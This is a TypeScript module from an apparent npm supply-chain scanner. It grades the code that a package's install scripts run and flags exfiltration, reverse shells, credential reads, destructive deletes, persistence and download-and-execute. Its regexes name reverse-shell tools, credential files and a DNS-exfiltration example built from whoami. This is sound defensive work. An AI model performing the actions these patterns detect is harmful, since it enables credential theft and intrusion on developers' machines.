/**
 * The code an npm package's install scripts run, as read from its tarball (TarballFacts
 * `installCode`), judged file by file: JavaScript with js-code.ts, shell scripts and Python
 * build scripts with the same labels (docs/checks.md, `install-scripts`). Pure.
 */
import type { TarballFacts } from '../../evidence/schema.js';
import { AGENT_CONTROL_PATH, REVIEWER_DIRECTED, runsAgentUnattended } from './agent-code.js';
import { gypCommands, runsForSideEffects } from './gyp-commands.js';
import { runningText } from './install-reach.js';
import { gradeOf, MAX_SCANNED_CHARS, readingWindows, readInstallJavaScript, type CodeFlag } from './js-code.js';
import { ObfuscationReader } from './obfuscation-signatures.js';
import { readBuildScript } from './python-code.js';

type InstallCode = NonNullable<TarballFacts['installCode']>;

/**
 * The cap on code a package runs at install that does what malicious packages do (docs/scoring.md,
 * caps, `install-code`): an npm install script's code (install-scripts) and an sdist's setup.py
 * (wheels-published) alike.
 */
export const INSTALL_CODE_CAP = { id: 'install-code', limit: 49.9 } as const;

export interface InstallCodeReading {
  /** Every file read, with its findings (empty when none). */
  files: { path: string; findings: CodeFlag[] }[];
  /** Dangerous and suspicious findings over all files, each once, in the order found. */
  dangerous: CodeFlag[];
  suspicious: CodeFlag[];
  /** Where the findings are: `in install.js`, `in install.js and lib/x.js`. */
  where: string;
  missing: string[];
  unread: string[];
  /** Of `unread`, files a bundled package's command names (src/sources/npm/install-code.ts): code npm runs, unread. */
  unreadBundled: string[];
  /** Of `unread`, the limit each reached (absent in evidence saved before nerq recorded it). */
  unreadCauses: InstallCode['unreadCauses'];
  /** Files read only in part (past the caps of src/sources/npm/install-code.ts, or the scanners' MAX_SCANNED_CHARS): their findings are their start's. */
  truncated: string[];
}

const SHELL_REVERSE = /\/dev\/tcp\/|\bnc(?:at)?\s+(?:-\w+\s+)*-[ec]\b|\bbash\s+-i\s*>&|\bsocat\b[^\n]{0,200}\bexec:/i;
const SHELL_NETWORK = /\b(?:curl|wget|nc|ncat|telnet)\b|\/dev\/(?:tcp|udp)\//;
/** Who and where the machine is (a path such as `$HOME` or `$(pwd)` is where files go, not what is sent). */
const SHELL_HOST_DATA = /\$\(\s*(?:hostname|whoami|id|uname|env|printenv)\b|`\s*(?:hostname|whoami|id|uname|env|printenv)\b|\$\{?(?:USER|USERNAME|LOGNAME|HOSTNAME)\b|\b(?:env|printenv)\s*\|/;
/**
 * A name looked up in DNS (or pinged) built from who and where the machine is
 * (`nslookup $(whoami).x.example`, ``ping -c1 `hostname`.x.example``): the lookup itself carries
 * the data to the name server of the attacker's domain, no HTTP client needed.
 */
const SHELL_DNS_HOST_DATA = /\b(?:nslookup|dig|host|drill|ping)\b[^\n;&|]{0,200}?(?:\$\(\s*(?:hostname|whoami|id|uname)\b[^)\n]{0,80}\)|`\s*(?:hostname|whoami|id|uname)\b[^`\n]{0,80}`|\$\{?(?:USER|USERNAME|LOGNAME|HOSTNAME)\b\}?)[^\s;&|]*\.[a-z0-9-]+\.[a-z]{2,}/i;
/** Credential files; reading one (not `.npmrc`, which installers read for the registry) is a finding. */
const SHELL_CREDENTIAL_FILES = /\.ssh\b|\bid_rsa\b|\.aws\/credentials\b|\.git-credentials\b|\/etc\/(?:passwd|shadow)\b|\.docker\/config\.json\b|\.kube\/config\b/;
const SHELL_CREDENTIALS = new RegExp(`${SHELL_CREDENTIAL_FILES.source}|\\.npmrc\\b`);
const SHELL_DOWNLOAD = /\b(?:curl|wget)\b|\|\s*(?:ba|z)?sh\b|\bbase64\s+(?:-d|--decode)\b|\beval\b/;
const SHELL_PUBLISH = /\bnpm\s+(?:publish|token\s+create|adduser|login)\b/;
const SHELL_DESTRUCTIVE = /\brm\s+-(?:rf|fr|r\s+-f|f\s+-r)\s+(?:~\/?|\/\*?|\$HOME\/?\*?|\$\{HOME\}\/?)(?=[\s;&|)]|$)/m;
const SHELL_PERSISTENCE = />>?\s*(?:~|\$HOME|\$\{HOME\})\/\.(?:bashrc|bash_profile|zshrc|zprofile|profile)\b|\bcrontab\s+-|\/etc\/cron|LaunchAgents|\.config\/autostart|\.config\/systemd\/user/;

/** Writing or linking a file into a place (cp, ln, mv, install, tee, a redirection). */
const SHELL_PLACES = /\b(?:cp|ln|mv|install|tee|rsync)\b|>>?/;

/** A shell script's findings (comment lines left out), read to MAX_SCANNED_CHARS in windows (js-code.ts, readingWindows). */
function readShell(source: string): CodeFlag[] {
  const flags = new Set<CodeFlag>();
  for (const window of readingWindows(source.slice(0, MAX_SCANNED_CHARS))) for (const flag of readShellWindow(window)) flags.add(flag);
  return [...flags];
}

function readShellWindow(scanned: string): CodeFlag[] {
  const text = scanned
    .split('\n')
    .filter((line) => !/^\s*#/.test(line))
    .join('\n');
  const flags = new Set<CodeFlag>();
  if ((SHELL_NETWORK.test(text) && (SHELL_HOST_DATA.test(text) || SHELL_CREDENTIALS.test(text))) || SHELL_DNS_HOST_DATA.test(text)) flags.add('exfiltration');
  if (SHELL_CREDENTIAL_FILES.test(text) && /\b(?:cat|cp|tar|base64)\b/.test(text)) flags.add('credential-read');
  if (SHELL_REVERSE.test(text)) flags.add('reverse-shell');
  if (SHELL_PUBLISH.test(text)) flags.add('publishes');
  if (SHELL_DESTRUCTIVE.test(text)) flags.add('destructive');
  if (SHELL_PERSISTENCE.test(text)) flags.add('persistence');
  if (SHELL_DOWNLOAD.test(text)) flags.add('download-exec');
  if (runsAgentUnattended(text)) flags.add('agent-unleashed');
  if (SHELL_PLACES.test(text) && AGENT_CONTROL_PATH.test(text)) flags.add('agent-instructions');
  if (REVIEWER_DIRECTED.test(scanned)) flags.add('reviewer-directed');
  return [...flags];
}

/** The labels of a Python build script's findings (python-code.ts, readBuildScript). */
const PYTHON_FLAGS: Record<string, CodeFlag> = {
  'exec-decoded': 'decoded-eval',
  'download-and-run': 'download-exec',
  exfiltration: 'exfiltration',
  'reverse-shell': 'reverse-shell',
  'encoded-blob': 'obfuscated',
  'dynamic-import': 'obfuscated',
  'agent-unleashed': 'agent-unleashed',
};

function readPython(source: string): CodeFlag[] {
  return [...new Set(readBuildScript(source).flags.flatMap((flag) => (PYTHON_FLAGS[flag] === undefined ? [] : [PYTHON_FLAGS[flag]])))];
}

/**
 * A JavaScript file's findings: js-code.ts's on the code of it that runs (`running`: install-reach.ts), and an obfuscator's signature (obfuscation-signatures.ts,
 * the one obfuscated-code reads the whole tarball with) as `obfuscated` — but for `decoded-eval`,
 * which js-code.ts judges itself here (its `decoded-eval` finding).
 */
function readJavaScript(text: string, running: string = text): CodeFlag[] {
  const flags = readInstallJavaScript(running).map((f) => f.flag);
  if (flags.includes('obfuscated')) return flags;
  const reader = new ObfuscationReader();
  // The reader reads one character a byte, as the tarball streams.
  reader.read(Buffer.from(text, 'utf8').toString('latin1'), true);
  return reader.signatures().some((signature) => signature !== 'decoded-eval') ? [...flags, 'obfuscated'] : flags;
}

/**
 * A binding.gyp's findings: its commands read as shell code (readShell), and a command expansion
 * run for its side effects (gyp-commands.ts) as `hidden-build-command`.
 */
function readGyp(source: string): CodeFlag[] {
  const commands = gypCommands(source);
  const flags = new Set(readShell(commands.map((c) => c.command).join('\n')));
  if (commands.some(runsForSideEffects)) flags.add('hidden-build-command');
  return [...flags];
}

const READERS: Record<InstallCode['files'][number]['language'], (text: string) => CodeFlag[]> = {
  javascript: readJavaScript,
  shell: readShell,
  python: readPython,
  gyp: readGyp,
};

/** Judge every file the install scripts run. */
export function installCodeFindings(code: InstallCode): InstallCodeReading {
  const files = code.files.map((file) => {
    // A module the install code loads: judged by what runs of it (its load-time code and the exports called), else whole.
    const findings = file.language === 'javascript' && file.calls !== undefined ? readJavaScript(file.text, runningText(file.text, new Set(file.calls))) : READERS[file.language](file.text);
    return { path: file.path, findings };
  });
  const all = [...new Set(files.flatMap((f) => f.findings))];
  const flagged = files.filter((f) => f.findings.length > 0).map((f) => f.path);
  const where = flagged.length === 0 ? '' : `in ${flagged.slice(0, 3).join(flagged.length === 2 ? ' and ' : ', ')}${flagged.length > 3 ? ` and ${flagged.length - 3} more` : ''}`;
  return {
    files,
    dangerous: all.filter((flag) => gradeOf(flag) === 'dangerous'),
    suspicious: all.filter((flag) => gradeOf(flag) === 'suspicious'),
    where,
    missing: code.missing,
    unread: code.unread,
    unreadBundled: code.unreadBundled ?? [],
    unreadCauses: code.unreadCauses,
    truncated: code.files.filter((file) => file.truncated || file.text.length > MAX_SCANNED_CHARS).map((file) => file.path),
  };
}

/** What the commands themselves do, read as the shell reads them: the dangerous findings, and the agent findings the command patterns (install-hooks.ts) do not name. */
export interface CommandReading {
  dangerous: CodeFlag[];
  suspicious: CodeFlag[];
}

const COMMAND_SUSPICIOUS = new Set<CodeFlag>(['agent-instructions', 'reviewer-directed']);

/**
 * The install commands of package.json read as shell code (readShell): a command that sends
 * `$(whoami)` to a host, opens a reverse shell, publishes, deletes the home folder or runs an AI
 * agent unattended is as dangerous as a file doing it. Downloads and decoding are the command
 * patterns' findings already.
 */
export function installCommandFindings(commands: readonly string[]): CommandReading {
  const all = [...new Set(commands.flatMap((command) => readShell(command)))];
  return { dangerous: all.filter((flag) => gradeOf(flag) === 'dangerous'), suspicious: all.filter((flag) => COMMAND_SUSPICIOUS.has(flag)) };
}
